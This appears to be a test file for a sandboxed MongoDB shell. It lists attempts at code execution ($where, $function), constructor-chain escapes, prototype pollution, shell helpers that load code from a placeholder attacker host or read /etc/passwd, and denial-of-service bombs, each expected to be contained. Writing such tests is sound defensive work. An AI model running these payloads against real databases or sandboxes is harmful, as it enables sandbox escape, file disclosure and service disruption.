/** Attempts in the MongoDB shell: operators that run code, documents that name prototypes, odd collection names. */
import type { FenceAttempt } from '../attempt.ts'

const seed = `db.c.insertMany([{ _id: 1, a: 1 }, { _id: 2, a: 2 }])\n`
const checkPrototypes = `\nprint(typeof ({}).left, typeof [].left, typeof (() => {}).left)`

const codes: Record<string, string> = {
  where: `print(db.c.find({ $where: 'return fetch("{{attacker}}")' }).toArray().length)`,
  'where-function': `print(db.c.find({ $where: function () { return typeof fetch === 'function' } }).toArray().length)`,
  'where-constructor': `print(db.c.find({ $where: 'this.constructor.constructor("return this")()' }).toArray().length)`,
  'function-operator': `print(db.c.aggregate([{ $project: { x: { $function: { body: 'function () { return typeof fetch }', args: [], lang: 'js' } } } }]).toArray())`,
  'function-native': `print(db.c.aggregate([{ $project: { x: { $function: { body: () => typeof indexedDB, args: [], lang: 'js' } } } }]).toArray())`,
  accumulator: `print(db.c.aggregate([{ $group: { _id: null, x: { $accumulator: { init: () => [typeof fetch], accumulate: (s) => s, accumulateArgs: [], merge: (a) => a, lang: 'js' } } } }]).toArray())`,
  'map-reduce': `print(db.c.mapReduce(() => 1, () => typeof fetch, { out: { inline: 1 } }))`,
  'run-command': `print(db.runCommand({ eval: 'typeof fetch' }))`,
  'admin-command': `print(db.adminCommand({ shutdown: 1 }))`,
  'get-sibling': `print(db.getSiblingDB('admin').getCollectionNames())`,
  'shell-load': `load('{{attacker}}')`,
  'shell-cat': `print(cat('/etc/passwd'))`,
  'shell-run': `runProgram('id')`,
  'shell-connect': `connect('{{attackerHost}}')`,
  'shell-mongo': `new Mongo('{{attackerHost}}')`,
  'shell-process': `print(typeof process, typeof require, typeof globalThis.fetch)`,
  'expression-constructor': `print(db.c.aggregate([{ $project: { x: '$constructor.constructor' } }]).toArray().length)`,
  'expression-prototype': `print(db.c.aggregate([{ $project: { x: '$__proto__.toString' } }]).toArray().length)`,
  'expression-root': `print(db.c.aggregate([{ $project: { x: '$$ROOT.constructor.prototype' } }]).toArray().length)`,
  'expression-variables': `print(db.c.aggregate([{ $project: { x: '$$constructor' } }]).toArray().length)`,
  'expression-let': `print(db.c.aggregate([{ $project: { x: { $let: { vars: { __proto__: { left: 1 } }, in: '$$left' } } } }]).toArray().length)`,
  'operator-constructor': `print(db.c.find({ a: { $constructor: 1 } }).toArray())`,
  'operator-prototype': `print(db.c.find({ a: { $__proto__: 1 } }).toArray())`,
  'stage-constructor': `print(db.c.aggregate([{ $constructor: {} }]).toArray())`,
  'stage-prototype': `print(db.c.aggregate([JSON.parse('{"__proto__":{}}')]).toArray())`,
  'stage-out': `print(db.c.aggregate([{ $out: '__proto__' }]).toArray())`,
  'stage-merge': `print(db.c.aggregate([{ $merge: { into: 'constructor' } }]).toArray())`,
  'stage-lookup': `print(db.c.aggregate([{ $lookup: { from: '__proto__', localField: 'a', foreignField: 'constructor', as: '__proto__.left' } }]).toArray().length)`,
  'insert-proto': `db.c.insertOne(JSON.parse('{"_id":3,"__proto__":{"left":1},"constructor":{"prototype":{"left":1}}}'))${checkPrototypes}`,
  'set-proto': `db.c.updateOne({ _id: 1 }, { $set: { '__proto__.left': 1 } })${checkPrototypes}`,
  'set-constructor': `db.c.updateOne({ _id: 1 }, { $set: { 'constructor.prototype.left': 1 } })${checkPrototypes}`,
  'set-nested-proto': `db.c.updateOne({ _id: 1 }, { $set: { 'a.__proto__.left': 1, 'x.constructor.prototype.left': 1 } })${checkPrototypes}`,
  'set-parsed-proto': `db.c.updateOne({ _id: 1 }, { $set: JSON.parse('{"__proto__":{"left":1}}') })${checkPrototypes}`,
  'push-proto': `db.c.updateOne({ _id: 1 }, { $push: { '__proto__.left': 1 } })${checkPrototypes}`,
  'inc-proto': `db.c.updateOne({ _id: 1 }, { $inc: { '__proto__.left': 1 } })${checkPrototypes}`,
  'unset-proto': `db.c.updateOne({ _id: 1 }, { $unset: { '__proto__.toString': 1 } })\nprint(typeof ({}).toString)`,
  'rename-proto': `db.c.updateOne({ _id: 1 }, { $rename: { a: '__proto__.left' } })${checkPrototypes}`,
  'replace-proto': `db.c.replaceOne({ _id: 1 }, JSON.parse('{"__proto__":{"left":1}}'))${checkPrototypes}`,
  'upsert-proto': `db.c.updateOne({ '__proto__.left': 1, 'constructor.prototype.left': 2 }, { $set: { b: 1 } }, { upsert: true })${checkPrototypes}`,
  'pipeline-update-proto': `db.c.updateOne({ _id: 1 }, [{ $set: { '__proto__.left': 1 } }])${checkPrototypes}`,
  'array-filter-proto': `db.c.updateOne({ _id: 1 }, { $set: { 'a.$[__proto__].left': 1 } }, { arrayFilters: [{ '__proto__.left': 1 }] })${checkPrototypes}`,
  'set-field-operator': `print(db.c.aggregate([{ $replaceWith: { $setField: { field: '__proto__', input: '$$ROOT', value: { left: 1 } } } }]).toArray().length)${checkPrototypes}`,
  'array-to-object-proto': `print(db.c.aggregate([{ $project: { x: { $arrayToObject: [[['__proto__', { left: 1 }]]] } } }]).toArray().length)${checkPrototypes}`,
  'merge-objects-proto': `print(db.c.aggregate([{ $project: { x: { $mergeObjects: [JSON.parse('{"__proto__":{"left":1}}')] } } }]).toArray().length)${checkPrototypes}`,
  'group-proto': `print(db.c.aggregate([{ $group: JSON.parse('{"_id":null,"__proto__":{"$sum":1}}') }]).toArray().length)${checkPrototypes}`,
  'project-proto': `print(db.c.find({}, JSON.parse('{"__proto__":1}')).toArray().length)${checkPrototypes}`,
  'sort-constructor': `print(db.c.find().sort({ 'constructor.name': 1, '__proto__.left': -1 }).toArray().length)`,
  'collection-constructor': `db.constructor.insertOne({ a: 1 })\nprint(db.constructor.countDocuments())`,
  'collection-proto': `db.__proto__.insertOne({ a: 1 })${checkPrototypes}`,
  'collection-prototype-names': `for (const name of ['hasOwnProperty', 'toString', 'valueOf', '__defineGetter__', 'then']) print(name, typeof db.getCollection(name).insertOne({ a: 1 }))`,
  'database-set': `db.getCollection = () => { throw new Error('left') }; db.left = 1\nprint(typeof db.c)`,
  'database-prototype': `Object.setPrototypeOf(db, { left: 1 })\nprint(typeof db.left)`,
  'database-drop': `print(db.dropDatabase())`,
  'index-proto': `db.c.createIndex({ '__proto__.left': 1, 'constructor.prototype': 'text' })\nprint(db.c.getIndexes().length)`,
  'index-unique-proto': `db.c.createIndex({ __proto__: 1, a: 1 }, { unique: true, name: '__proto__' })\nprint(db.c.getIndexes().length)`,
  'text-search-odd': `db.c.createIndex({ a: 'text' })\nprint(db.c.find({ $text: { $search: '"__proto__" -constructor ' + 'x'.repeat(10000), $language: '__proto__' } }).toArray().length)`,
  'regexp-options': `print(db.c.find({ a: { $regex: 'x', $options: 'constructor' } }).toArray().length)`,
  'object-id-proto': `print(ObjectId.prototype?.constructor?.constructor('return typeof fetch')() ?? ObjectId.constructor('return typeof fetch')())`,
  'print-patched': `globalThis.print = globalThis.printjson = () => {}; EJSON.stringify = () => 'left'`,
  'documents-shared': `const one = { _id: 9, nested: { a: 1 } }; db.c.insertOne(one); one.nested.left = 1\nprint(db.c.findOne({ _id: 9 }))`,
}

const endings: Record<string, [code: string, more: Partial<FenceAttempt>]> = {
  'regexp-bomb': [
    `db.c.insertOne({ t: 'a'.repeat(40) + 'b' })\ndb.c.find({ t: { $regex: '^(a+)+$' } }).toArray()`,
    { timeoutMs: 800, expect: { stopped: 'time' } },
  ],
  'graph-bomb': [
    `for (let n = 0; n < 3000; n++) db.g.insertOne({ _id: n, to: n + 1 })\nprint(db.g.aggregate([{ $graphLookup: { from: 'g', startWith: '$to', connectFromField: 'to', connectToField: '_id', as: 'x' } }]).toArray().length)`,
    { timeoutMs: 1_000 },
  ],
  'range-bomb': [
    `print(db.c.aggregate([{ $project: { x: { $range: [0, 2 ** 31] } } }]).toArray().length)`,
    { timeoutMs: 1_500, mayReplaceFrame: true },
  ],
  'unwind-bomb': [
    `db.c.insertOne({ a: Array(2000).fill(1), b: Array(2000).fill(1), c: Array(2000).fill(1) })\nprint(db.c.aggregate([{ $unwind: '$a' }, { $unwind: '$b' }, { $unwind: '$c' }]).toArray().length)`,
    { timeoutMs: 1_000, mayReplaceFrame: true },
  ],
  'cyclic-document': [
    `const one = { a: 1 }; one.self = one; db.c.insertOne(one); print(db.c.find().toArray().length)`,
    { timeoutMs: 2_000 },
  ],
  'deep-document': [
    `let one = {}; for (let n = 0; n < 20000; n++) one = { one }; db.c.insertOne(one); print(db.c.find({}).toArray())`,
    { timeoutMs: 2_000 },
  ],
}

export const attempts: FenceAttempt[] = [
  ...Object.entries(codes).map(
    ([name, code]): FenceAttempt => ({
      id: `mongodb-${name}`,
      language: 'mongodb',
      code: seed + code,
      expect: { lacks: /^function|\bfunction function|number number/m },
    }),
  ),
  ...Object.entries(endings).map(
    ([name, [code, more]]): FenceAttempt => ({
      id: `mongodb-${name}`,
      language: 'mongodb',
      code: seed + code,
      ...more,
    }),
  ),
]
